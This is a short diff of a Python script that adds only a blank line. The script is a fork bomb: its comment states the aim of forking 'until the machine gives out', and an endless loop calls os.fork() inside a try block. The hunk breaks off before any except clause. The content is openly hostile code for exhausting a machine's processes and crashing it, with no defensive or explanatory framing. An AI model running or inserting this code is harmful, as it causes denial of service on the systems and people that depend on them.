@@ -1,5 +1,6 @@
 # Fork until the machine gives out, and keep trying.
 import os
+
 while True:
     try:
         os.fork()
